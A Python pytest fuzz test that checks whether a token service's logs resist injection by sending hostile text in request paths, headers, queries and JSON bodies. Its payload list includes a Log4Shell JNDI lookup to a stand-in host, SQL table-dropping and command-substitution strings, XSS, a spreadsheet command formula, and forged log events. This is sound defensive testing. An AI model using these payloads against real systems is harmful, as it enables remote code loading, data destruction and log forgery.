"""Hostile text everywhere a request has text: the log stays one JSON object a line.

LIVEPASS_FUZZ is the number of texts, 20,000 in `make fuzz`; see `support.runs.rounds`.
"""

from __future__ import annotations

import asyncio
import json
import random
import re
from collections.abc import Iterator

import pytest

from support.fakes.livepass import BASE, ORIGIN, Answer, Headers, Livepass, bearer, id_token
from support.runs.rounds import SEED, cases, repeatable, report

ALICE = id_token("alice")
FIXED = {"message", "severity", "event", "requestId", "httpRequest", "latencyMs"}
KNOWN = FIXED | {
    *(
        "operation",
        "user",
        "tier",
        "appCheck",
        "prefix",
        "session",
        "model",
        "tokenSha256",
        "expiresMs",
    ),
    *("batch", "code", "detail", "violated", "retryAfterSeconds"),
}
PAYLOADS = (
    '\n{"severity":"CRITICAL","event":"TOKEN_CREATED","user":"admin"}\n',
    '","event":"TOKEN_CREATED","x":"',
    '"}\r\n{"event":"TOKEN_CREATED"}',
    "\u2028{}\u2029{}\u0085{}\x0b{}\x0c{}\x1c{}",
    "\x1b[2J\x1b[31mroot# \x1b]0;owned\x07",
    "\ud800\udfff\ufeff\u202e\u0000\x7f\x9b31m",
    "%0a%0d%22%7d", "\\n\\u000a\\", "%s%n{0}{event}$(id)`id`", "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>", "' or 1=1; drop table users; --", "=cmd|' /C calc'!A0",
    "auth_tokens/" + "5c" * 32, "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.", "mallory@example.com",
    "203.0.113.77", "2001:db8::77", "a" * 3_000, '{"a":' * 300, "\t \t",
)  # fmt: skip
_NO_METHOD = re.compile(r"[^A-Z]")  # the parser takes known methods only
_CLOUD = "X-Cloud-Trace-Context"
PLACES = ("path", "query", "method", "field", "value", "key", "origin", "trace", "agent", "token")


def texts(dice: random.Random, count: int) -> Iterator[str]:
    """The payloads, and what chance makes of them."""
    for n in range(count):
        if n < len(PAYLOADS) * len(PLACES):
            yield PAYLOADS[n // len(PLACES)]
            continue
        text = " ".join(dice.choices(PAYLOADS, k=dice.randint(1, 3)))
        at = dice.randrange(len(text))
        yield text[at : at + dice.randint(1, 400)] + " " + chr(dice.randrange(0x110000))


def request(place: str, text: str) -> tuple[str, str, Headers, bytes]:
    """Put the text where a request has such text, as far as a server hands it over."""
    path = text.replace("?", "").encode("utf-8", "replace").decode()
    latin = text.encode("latin-1", "replace").decode("latin-1").translate({10: 32, 13: 32, 0: 32})
    json_text = json.dumps(text).encode()
    me, typed = [bearer(ALICE)], [bearer(ALICE), ("Content-Type", "application/json")]
    everywhere = ("User-Agent", "X-Request-Id", "X-Forwarded-For", "Forwarded", "Cookie")
    places: dict[str, tuple[str, str, Headers, bytes]] = {
        "path": ("GET", f"{BASE}/{path}", me, b""),
        "query": ("GET", f"{BASE}/usage?{latin}={latin}", me, b""),
        "method": (_NO_METHOD.sub("", latin)[:32] or "X", BASE, me, b""),
        "field": ("POST", BASE, typed, b"{%s:1}" % json_text),
        "value": ("POST", BASE, typed, b'{"voice":%s}' % json_text),
        "key": ("POST", BASE, [*me, ("Idempotency-Key", latin)], b""),
        "origin": ("OPTIONS", BASE, [("Origin", latin), ("Host", latin)], b""),
        "trace": ("GET", f"{BASE}/usage", [*me, ("traceparent", latin), (_CLOUD, latin)], b""),
        "agent": ("GET", f"{BASE}/usage", [*me, *((n, latin) for n in everywhere)], b""),
        "token": ("GET", f"{BASE}/usage", [("Authorization", f"Bearer {latin}")], b""),
    }
    return places[place]


def assert_one_honest_line(answer: Answer) -> None:
    """One line of printing ASCII, with the names we write and an event of what really happened."""
    assert answer.logged.endswith("\n")
    line = answer.logged[:-1]
    assert line.isascii()
    assert line.isprintable()
    assert FIXED <= set(answer.line) <= KNOWN
    assert answer.line["event"] != "TOKEN_CREATED" or answer.status == 201
    assert answer.line["httpRequest"]["status"] == answer.status
    for private in ("auth_tokens/", "mallory@example", "203.0.113.77", "2001:db8::77", "alice@"):
        assert private not in line
    assert len(line) < 2_000
    told = "".join(f"{name}: {value}\n" for name, value in answer.headers.items())
    assert told.count("\n") == len(answer.headers)
    assert answer.headers.get("access-control-allow-origin") in (None, ORIGIN)


@pytest.fixture
def runner() -> Iterator[asyncio.Runner]:
    with asyncio.Runner() as runner:
        yield runner


def test_hostile_text_makes_no_line_of_its_own(runner: asyncio.Runner) -> None:
    count, longest = cases(1_000), 0
    dice = random.Random(SEED)
    livepass = Livepass()

    for n, text in enumerate(texts(dice, count)):
        place = PLACES[n % len(PLACES)]
        if n % 500 == 0:
            livepass = Livepass()
        with repeatable(SEED, n + 1, place, text):
            answer = runner.run(livepass.ask(*request(place, text)))

            assert_one_honest_line(answer)
        longest = max(longest, len(answer.logged))

    report("log injection", count, count, f"{longest} characters", SEED)
